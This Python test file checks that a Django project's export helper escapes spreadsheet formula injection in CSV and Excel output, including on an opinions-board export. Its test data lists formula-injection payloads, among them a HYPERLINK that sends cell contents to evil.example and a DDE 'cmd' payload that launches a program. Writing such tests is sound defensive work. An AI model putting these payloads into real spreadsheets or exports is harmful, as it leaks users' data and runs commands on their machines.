"""Spreadsheet formula injection (issue 17.16): text a resident typed never reaches a CSV or
Excel export as a formula; the one export helper escapes it."""

import csv
import io

import pytest
from openpyxl import load_workbook

from yishi.core.exports import safe_cell, table_response

HOSTILE = ["=HYPERLINK(\"https://evil.example/?\"&A1,\"点我\")", "+1+cmd|' /C calc'!A0",
           "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def test_every_formula_start_is_escaped_and_ordinary_values_kept():
    for text in HOSTILE:
        assert safe_cell(text) == "'" + text
    for value in ("电动车乱停放", "13800001234", "", 12, -3, 4.5, None, "a=b"):
        assert safe_cell(value) == value


def _csv_rows(response):
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def test_csv_and_excel_exports_hold_text_not_formulas():
    rows = [[text, -1] for text in HOSTILE]
    written = _csv_rows(table_response(["=title", "n"], iter(rows), "csv", "t"))
    assert written[0] == ["'=title", "n"]
    assert [row[0] for row in written[1:]] == ["'" + text for text in HOSTILE]
    book = load_workbook(io.BytesIO(table_response(["=title", "n"], iter(rows), "xlsx",
                                                   "t").content))
    sheet = book.active
    cells = [sheet.cell(row=i + 2, column=1) for i in range(len(HOSTILE))]
    assert all(cell.data_type == "s" for cell in cells)
    # (XML reads a stored CR back as LF; what matters is the apostrophe in front.)
    assert [cell.value for cell in cells[:5]] == ["'" + text for text in HOSTILE[:5]]
    assert cells[5].value.startswith("'")
    assert sheet.cell(row=2, column=2).value == -1  # numbers stay numbers


@pytest.mark.django_db
def test_the_opinions_board_export_escapes_a_hostile_title(client, people, xihu):
    from tests.opinions.test_loop import intake
    from yishi.opinions import services
    from yishi.opinions.models import OpinionCategory

    category = OpinionCategory.objects.create(code="parking", name="停车管理")
    opinion = services.submit_opinion(people["resident"], intake(
        xihu, category, title="=HYPERLINK(\"https://evil.example\",\"详情\")"))
    services.accept_opinion(people["street_staff"], opinion)
    rows = _csv_rows(client.get("/opinions/export.csv"))
    assert rows[1][0] == opinion.number
    assert rows[1][1] == "'=HYPERLINK(\"https://evil.example\",\"详情\")"
